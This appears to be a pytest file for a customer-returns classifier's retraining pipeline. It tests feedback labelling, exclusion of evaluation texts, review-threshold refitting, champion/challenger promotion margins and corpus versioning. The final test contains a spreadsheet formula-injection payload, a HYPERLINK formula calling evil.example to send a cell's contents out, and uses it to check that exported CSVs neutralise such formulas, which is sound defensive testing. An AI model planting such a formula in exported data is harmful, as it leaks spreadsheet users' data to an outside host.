"""The retraining decision: feedback becomes labelled rows with provenance; a challenger is promoted only
when better on recent feedback by the margin and not worse in either language."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from training.corpus import corpus_version
from training.retrain import (
    corpus_notes,
    evaluation_only_texts,
    feedback_labels,
    frozen_test,
    judge,
    refit_review_threshold,
    split_recent,
    without_texts,
    write_provenance,
)
from triage.settings import Settings


def _feedback(rows: int) -> pd.DataFrame:
    accepted = [number % 3 != 0 for number in range(rows)]
    return pd.DataFrame(
        {
            "id": range(1, rows + 1),
            "return_id": [f"R{number}" for number in range(rows)],
            "created_at": pd.date_range("2026-11-01", periods=rows, freq="h", tz="UTC"),
            "reason_accepted": accepted,
            "corrected_reason": [None if ok else "too_large" for ok in accepted],
            "request": [
                {"reason_text": f"text {number}", "lang": "fr" if number % 2 else "en"} for number in range(rows)
            ],
            "response": [
                {"reason": {"code": "too_small", "confidence": 0.5 + number / (2 * rows)}} for number in range(rows)
            ],
        }
    )


def test_feedback_becomes_labelled_rows_with_provenance():
    labels = feedback_labels(_feedback(9))
    assert list(labels["label"]) == ["too_large", "too_small", "too_small"] * 3
    assert set(labels["source"]) == {"feedback"} and list(labels["feedback_id"]) == list(range(1, 10))
    assert list(labels["lang"][:2]) == ["en", "fr"] and labels["labelled_at"].is_monotonic_increasing
    older, recent = split_recent(labels, 0.3)
    assert len(recent) == 3 and older["labelled_at"].max() < recent["labelled_at"].min()


def test_evaluation_only_texts_are_left_out_of_the_feedback(tmp_path: Path):
    blind = tmp_path / "blind.csv"
    pd.DataFrame({"id": ["b1"], "lang": ["fr"], "text": ["Trop  PETITE, très déçue"], "label": ["too_small"]}).to_csv(
        blind, index=False
    )
    settings = Settings(state_dir=tmp_path, real_texts_path=tmp_path / "absent.csv", blind_texts_path=blind)
    held_back = pd.DataFrame({"text": ["text 4"], "lang": ["en"], "label": ["too_small"]})
    feedback = _feedback(6)
    feedback["request"] = [
        {"reason_text": "trop petite, tres decue", "lang": "fr"} if number == 2 else request
        for number, request in enumerate(feedback["request"])
    ]
    kept, left_out = without_texts(feedback_labels(feedback), evaluation_only_texts(settings, {"held": held_back}))
    assert left_out == 2 and list(kept["return_id"]) == ["R0", "R1", "R3", "R5"]


def test_evaluation_only_texts_are_left_out_of_the_frozen_test(tmp_path: Path):
    # the challenger was judged (macro-F1 per language) on every frozen-test row, a held-back file's texts included
    test = pd.DataFrame({"text": [f"text {number}" for number in range(10)], "lang": "en", "label": "too_small"})
    settings = Settings(state_dir=tmp_path, real_texts_path=tmp_path / "absent.csv", blind_texts_path=tmp_path / "no")
    held_back = pd.DataFrame({"text": ["TEXT 3", "têxt 7"], "lang": ["en", "en"], "label": ["too_small"] * 2})
    evaluation_only = evaluation_only_texts(settings, {"held": held_back})
    whole, left_out = frozen_test(test, evaluation_only, None, seed=0)
    assert left_out == 2 and sorted(whole["text"]) == sorted(set(test["text"]) - {"text 3", "text 7"})
    sampled, _ = frozen_test(test, evaluation_only, 8, seed=0)
    assert len(sampled) == 8 and set(sampled["text"]) == set(whole["text"])


def test_review_threshold_refits_from_accepted_and_corrected():
    labels = feedback_labels(_feedback(60))
    assert refit_review_threshold(labels.head(5), 0.9, min_rows=20) is None
    threshold = refit_review_threshold(labels, 0.6, min_rows=20)
    kept = labels[labels["served_confidence"] >= threshold]
    assert kept["accepted"].mean() >= 0.6 and len(kept) > 0


def _scores(recent: float, recent_fr: float, test_fr: float) -> dict:
    return {
        "recent": {"overall": {"accuracy": recent}, "en": {"accuracy": recent}, "fr": {"accuracy": recent_fr}},
        "frozen_test": {"en": {"macro_f1": 0.9}, "fr": {"macro_f1": test_fr}},
    }


def test_better_challenger_is_promoted():
    verdict = judge({"champion": _scores(0.6, 0.6, 0.9), "challenger": _scores(0.7, 0.7, 0.9)}, 0.02, 0.01)
    assert verdict.promoted and "+0.100" in verdict.reasons[0]


def test_worse_challenger_is_refused_with_the_reason():
    verdict = judge({"champion": _scores(0.6, 0.6, 0.9), "challenger": _scores(0.55, 0.55, 0.9)}, 0.02, 0.01)
    assert not verdict.promoted and "below the margin" in verdict.reasons[0]


def test_challenger_worse_in_one_language_is_refused():
    verdict = judge({"champion": _scores(0.6, 0.6, 0.9), "challenger": _scores(0.7, 0.7, 0.85)}, 0.02, 0.01)
    assert not verdict.promoted and verdict.reasons == ["frozen_test macro_f1 in fr worse by 0.050 (tolerance 0.01)"]


def test_corpus_version_counts_the_rows_and_changes_with_any_text():
    corpus = pd.DataFrame(
        {
            "id": ["c2", "c1"],
            "lang": ["en", "fr"],
            "text": ["too tight", "trop grand"],
            "label": ["too_small", "too_large"],
        }
    )
    version = corpus_version(corpus)
    assert version.startswith("2:") and corpus_version(corpus.iloc[::-1]) == version
    assert corpus_version(corpus.assign(text=["too tight!", "trop grand"])) != version
    assert corpus_version(corpus.assign(label=["too_small", "too_small"])) != version


def test_comparison_says_when_the_corpus_changed_since_the_champion():
    assert corpus_notes({"champion": "2:abc", "challenger": "2:abc"}) == []
    (changed,) = corpus_notes({"champion": "2:abc", "challenger": "3:def"})
    assert "champion 2:abc, challenger 3:def" in changed and "mixes the corpus change" in changed
    (unrecorded,) = corpus_notes({"champion": None, "challenger": "3:def"})
    assert "champion not recorded" in unrecorded


def test_a_gain_of_exactly_the_margin_and_a_loss_of_exactly_the_tolerance_promote():
    # accuracies are fractions of the rows: 41/50 - 40/50 is 0.01999999999999996 as doubles, which was refused as
    # "gain +0.020 is below the margin 0.02"; one French text of 100 lost was "worse by 0.010 (tolerance 0.01)"
    exact = judge({"champion": _scores(40 / 50, 0.71, 0.9), "challenger": _scores(41 / 50, 0.70, 0.9)}, 0.02, 0.01)
    assert exact.promoted, exact.reasons
    short = judge({"champion": _scores(40 / 50, 0.71, 0.9), "challenger": _scores(40.9 / 50, 0.71, 0.9)}, 0.02, 0.01)
    assert not short.promoted and short.reasons == ["recent-feedback accuracy gain +0.018 is below the margin 0.02"]
    lost = judge({"champion": _scores(0.5, 0.71, 0.9), "challenger": _scores(0.6, 0.699, 0.9)}, 0.02, 0.01)
    assert lost.reasons == ["recent accuracy in fr worse by 0.011 (tolerance 0.01)"]


def test_the_provenance_csv_shows_a_formula_return_id_as_text(tmp_path: Path) -> None:
    # the API takes "=HYPERLINK(...)" as a return id; written as is, a spreadsheet opening training_rows.csv ran it
    provenance = pd.DataFrame({"return_id": ['=HYPERLINK("evil.example?"&A1)', "R1"], "feedback_id": [3, 4]})
    write_provenance(provenance, tmp_path / "training_rows.csv")
    written = pd.read_csv(tmp_path / "training_rows.csv")
    assert written["return_id"].tolist() == ['\'=HYPERLINK("evil.example?"&A1)', "R1"]
    assert written["feedback_id"].tolist() == [3, 4]
